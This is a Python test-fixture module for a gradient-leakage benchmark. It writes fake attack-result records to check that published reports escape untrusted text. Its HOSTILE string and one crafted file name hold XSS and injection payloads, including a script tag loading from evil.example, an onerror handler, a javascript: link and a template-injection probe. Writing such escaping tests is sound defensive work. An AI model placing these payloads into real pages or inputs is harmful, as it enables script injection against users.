"""A run's folder with records made by hand, to be published."""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import replace
from pathlib import Path
from typing import Any

from leakbench.attacks.feature import FeatureReconstruction
from leakbench.experiments.expansion import SuiteEntry
from leakbench.metrics.estimates import Estimate
from leakbench.records.record import Cost, DefenseMetrics, Record
from leakbench.records.store import Store
from records import record_of, suite_entries, version_of

DEFENDED = """
title = "Defended"

[cell]
image_size = 32
dataset = "synthetic"
properties = ["gender", "glasses", "smile", "young"]
main_task = "hat"
individuals = 64

[attack.feature]
[attack.ig]
[attack.blind]
[attack.labels]

[[group]]
title = "By defense"
layout = "defense"

[group.sweep]
batch_size = [1, 8, 16]
defense = [
    { name = "none" },
    { name = "gaussian", sigma = 0.01 },
    { name = "gaussian", sigma = 0.1 },
    { name = "quantise", bits = 4 },
]
"""
"""A suite that sweeps defenses."""

HOSTILE = (
    '"\'><script src="https://evil.example/x.js"></script>'
    '<img src="https://evil.example/x.png" onerror="document.title=\'taken over\'">'
    "![y](https://evil.example/y.png) [z](javascript:alert(1)) | **b** `c` {{ 7 * 7 }} </title>"
)
"""A text that would run a script, or load something, if it were taken for HTML or Markdown."""

VALUES = {
    "feature": 0.8,
    "mask_demixing": 0.9,
    "ig": 0.7,
    "blind": 0.55,
    "labels": 0.5,
    "oracle": 0.95,
}
"""Attack → balanced accuracy; 0.6 for all others."""


def estimate(value: float, half: float = 0.03) -> Estimate:
    """Return a share with an interval of this half width, cut at 0 and 1."""
    return Estimate(value=value, low=max(0.0, value - half), high=min(1.0, value + half))


def done(cell: SuiteEntry, value: float | None = None, **fields: Any) -> Record:
    """Return a cell's record: its properties differ by a hundredth each.

    Args:
        value: balanced accuracy of the first property; by the attack, if not told.
        fields: of the record.
    """
    base = VALUES.get(cell.cell.attack, 0.6) if value is None else value
    shares = {name: estimate(base - 0.01 * i) for i, name in enumerate(cell.cell.properties)}
    metrics: dict[str, Any] = {"exact": estimate(0.5), "feature_cosine": estimate(0.4)}
    if cell.cell.defense != "none":
        lost = estimate(0.1)
        metrics["defense"] = DefenseMetrics(
            distortion=estimate(0.5), utility=estimate(0.6), utility_lost=lost
        )
    shared = {"accuracy": 0.7, "most_frequent_class": 0.5, "labelled_auxiliary": 1.0}
    record = record_of(cell, shares, main_task=shared, classes=8, **metrics)
    told = {
        "attack_version": version_of(cell),
        "knowledge": ("model", "update", "labels", "auxiliary"),
        "cost": Cost(seconds=64 * base, steps=150, peak_memory_mib=500),
        "versions": {"leakbench": "0.1.0"},
        "fingerprint": "abc",
    }
    return record.model_copy(update=told | fields)


def failed(cell: SuiteEntry, error: str) -> Record:
    """Return the record of a cell that failed."""
    return Record(
        key=cell.key,
        cell=cell.cell,
        attack_version=version_of(cell),
        status="failed",
        error=error,
    )


def defended_suite(folder: Path) -> Path:
    """Write a suite that sweeps defenses; return its file."""
    path = folder / "defended.toml"
    path.write_text(DEFENDED, encoding="utf-8")
    return path


def write_run(out: Path, records: Iterable[Record]) -> Path:
    """Write records as a run does; return the run's folder."""
    store = Store(out / "records")
    for record in records:
        store.write(record.model_copy(update={"finished": "2026-01-01T00:00:00+00:00"}))
    return out


def whole_run(folder: Path) -> tuple[Path, Path]:
    """Write all cells of the suite `quick` and of one of defenses; return run and suite file."""
    suite = defended_suite(folder)
    cells = [*suite_entries("quick"), *suite_entries(str(suite))]
    return write_run(folder / "run", map(done, cells)), suite


class Hostile(FeatureReconstruction):
    __doc__ = HOSTILE
    title = f"Title {HOSTILE}"
    reference = f"Paper {HOSTILE}"
    note = HOSTILE


def hostile_run(folder: Path) -> tuple[Path, Path]:
    """Write records whose every text tries to be more than that; return run and suite file.

    `Hostile` must have taken the place of `feature`.
    """
    suite = defended_suite(folder)
    cells = [*suite_entries("quick"), *suite_entries(str(suite))]
    (feature, *_) = (cell for cell in cells if cell.cell.attack == "feature")
    changed = feature.cell.model_copy(
        update={
            "properties": (f"property {HOSTILE}",),
            "dataset_parameters": {HOSTILE: HOSTILE},
            "main_task": HOSTILE,
            "model": HOSTILE,
        }
    )
    resolved = replace(feature.resolved, cell=changed)
    moved = replace(feature, resolved=resolved, key=changed.key(version_of(feature)))
    texts = {"device": HOSTILE, "versions": {HOSTILE: HOSTILE}, "knowledge": (HOSTILE,)}
    out = write_run(
        folder / "out",
        [
            failed(cells[0], f"Error {HOSTILE}"),
            *map(done, cells[1:]),
            done(moved, **texts, fingerprint=HOSTILE),
        ],
    )
    (out / "records" / "x'\"><b onclick=y>.json").write_text("{}")
    return out, suite
